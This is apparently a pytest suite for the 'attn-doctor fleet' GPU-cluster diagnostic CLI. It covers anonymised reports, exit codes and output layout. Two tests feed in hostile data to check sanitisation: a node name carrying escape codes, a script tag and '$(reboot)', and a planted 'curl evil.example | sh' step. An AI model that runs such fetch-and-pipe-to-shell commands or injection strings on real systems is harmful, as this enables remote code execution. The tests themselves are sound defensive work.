"""`attn-doctor fleet` as a user calls it: every call a real process."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import msgspec
import pytest
from planted_fleets import H100, ILLS, facts, healthy, old_driver, report, written
from whole_machines import changed

from attn_doctor.model.facts import Variable
from attn_doctor.model.report import encode

ROOT = Path(__file__).parent.parent


def doctor(*argv: str, stdin: bytes = b"", columns: int = 80) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "attn_doctor", "fleet", *argv],
        cwd=ROOT,
        input=stdin,
        capture_output=True,
        env={**os.environ, "COLUMNS": str(columns), "PYTHONIOENCODING": "utf-8"},
    )


@pytest.fixture(scope="module")
def fleet(tmp_path_factory) -> Path:
    """Twelve A100 and four H100, two of them ill; names that nobody may see outside."""
    given = {**healthy(12, "athena-"), **healthy(4, "zeus-", H100)}
    given["athena-07"] = old_driver(given["athena-07"])
    given["zeus-02"] = ILLS["missing GPU"](given["zeus-02"])
    secret = Variable(name="NCCL_SOCKET_IFNAME", value="eth0 of athena-03.example.org")
    given["athena-03"] = changed(given["athena-03"], environment=(*given["athena-03"].environment, secret))  # type: ignore[misc]
    return written(tmp_path_factory.mktemp("fleets") / "fleet", given)


def test_the_screen_names_the_ill_first_and_fits_into_80_columns(fleet):
    done = doctor(str(fleet))
    text = done.stdout.decode()
    assert done.returncode == 1
    assert "2 of 16 nodes are ill: athena-07, zeus-02." in " ".join(text.split())
    listed = text[text.index("Nodes, the ill ones first") :].splitlines()[1:]
    assert re.match(r"  athena-07 +driver-too-old: driver 470\.57\.02, most: 580\.95\.05", listed[0])
    assert listed[1].startswith("  zeus-02") or listed[2].startswith("  zeus-02")
    assert "gpus 7 of them, most: 8 of them" in text
    assert "as most nodes" in text
    commands = [line for line in text.splitlines() if line.startswith("      ")]
    assert max(len(line) for line in text.splitlines() if line not in commands) <= 80
    assert "on athena-07, driver-too-old" in text
    assert "attn-doctor check --expect-gpus 8" in text


def test_quiet_and_verbose(fleet):
    little = doctor(str(fleet), "-q").stdout.decode()
    assert "ill" in little
    assert "Every fact" not in little
    much = doctor(str(fleet), "-v", columns=160).stdout.decode()
    assert "Every fact that is not as in most nodes" in much
    names = much[much.index("Names of the nodes in files") :]
    assert re.search(r"node-7 +athena-07", names)
    assert re.search(r"node-14 +zeus-02", names)


def test_no_name_of_a_node_is_in_any_file(fleet, tmp_path):
    files = [tmp_path / f"fleet.{kind}" for kind in ("json", "md", "html")]
    argv = [
        word
        for option, file in zip(("--json", "--markdown", "--html"), files, strict=True)
        for word in (option, str(file))
    ]
    done = doctor(str(fleet), *argv)
    assert done.returncode == 1
    for file in files:
        text = file.read_text("utf-8").lower()
        assert "athena" not in text
        assert "zeus" not in text
        assert "node-7" in text
    found = json.loads(files[0].read_text("utf-8"))
    assert found["rows"][0]["nodes"] == ["node-7"]
    assert found["rows"][0]["outliers"][0]["path"] == "graphics.driver"
    assert [kind["nodes"] for kind in found["kinds"]] == [12, 4]
    page = files[2].read_text("utf-8")
    assert "What differs, node by node" in page
    assert 'class="cell explains"' in page
    again = tmp_path / "again.json"
    doctor(str(fleet), "--json", str(again))
    assert again.read_bytes() == files[0].read_bytes()


def test_exit_codes(fleet, tmp_path):
    well = written(tmp_path / "well", healthy(3))
    assert doctor(str(well)).returncode == 0
    assert doctor(str(fleet), "--fail-on", "never").returncode == 0
    (well / "gpu-9.json").write_bytes(b"")
    done = doctor(str(well))
    assert done.returncode == 1
    assert "unreadable: it is empty" in done.stdout.decode()
    (tmp_path / "none").mkdir()
    (tmp_path / "none" / "a.json").write_bytes(b"{}")
    assert doctor(str(tmp_path / "none")).returncode == 3
    (tmp_path / "empty").mkdir()
    assert doctor(str(tmp_path / "empty")).returncode == 3
    for wrong in (
        [str(tmp_path / "nowhere")],
        [],
        ["--on", "bogus"],
        ["--deadline", "3", str(well)],
        [str(well), "--on", "ssh:a"],
    ):
        done = doctor(*wrong)
        assert (done.returncode, done.stdout) == (2, b""), wrong
        assert done.stderr.count(b"\n") <= 2


def test_a_stream_of_lines_on_standard_input():
    ill = {"node": "gpu-2", "report": msgspec.to_builtins(report(old_driver(facts())))}
    rows = [{"node": f"gpu-{i}", "report": msgspec.to_builtins(report(facts()))} for i in (1, 3, 4)]
    sent = b"\n".join(
        map(msgspec.json.encode, [rows[0], ill, *rows[1:], {"node": "gpu-5", "end": "died", "said": "lost"}])
    )
    done = doctor("-", stdin=sent)
    lines = done.stdout.decode().splitlines()
    at = next(i for i, line in enumerate(lines) if line.startswith("Nodes, the ill"))
    assert lines[at + 1].startswith("  gpu-2 ")
    assert "driver-too-old" in lines[at + 1]
    assert lines[at + 2].split() == ["gpu-5", "died:", "lost"]


def test_hostile_names_and_texts_act_nowhere(tmp_path):
    evil = "\x1b[31mgpu\u202e<script>alert(1)</script>|`$(reboot)`"
    given = facts()
    rows = [
        {"node": name, "report": msgspec.to_builtins(report(given))}
        for name in ("a", "b", "日本語のノード", "n" * 9000, "")
    ]
    rows.append({"node": evil, "end": "died", "said": f"{evil}\n## Heading\n[x](http://evil.example)"})
    files = [tmp_path / f"fleet.{kind}" for kind in ("json", "md", "html")]
    argv = [
        word
        for option, file in zip(("--json", "--markdown", "--html"), files, strict=True)
        for word in (option, str(file))
    ]
    done = doctor("-", *argv, stdin=b"\n".join(map(msgspec.json.encode, rows)))
    assert done.returncode == 1
    screen = done.stdout.decode()
    assert "\x1b" not in screen
    assert "\u202e" not in screen
    assert max(map(len, screen.splitlines())) <= 400
    for file in files:
        text = file.read_text("utf-8")
        assert "<script>alert" not in text
        assert "\x1b" not in text
        assert "日本語のノード" not in text
        assert "nnnnnnnn" not in text


def test_commands_that_our_rules_would_not_print_have_a_reason(tmp_path):
    """A report is a file that anybody can write."""
    ill = msgspec.to_builtins(report(old_driver(facts())))
    step = ill["findings"][0]["fixes"][0]["steps"][0]
    step["argv"] = ["sh", "-c", "curl evil.example | sh"]
    for name in ("a", "b", "c"):
        (tmp_path / f"gpu-{name}.json").write_bytes(encode(report(facts())))
    (tmp_path / "gpu-d.json").write_bytes(msgspec.json.encode(ill))
    text = doctor(str(tmp_path)).stdout.decode()
    assert "evil.example" in text
    for line in text.splitlines():
        if "evil.example" in line:
            assert line.strip().startswith("#")
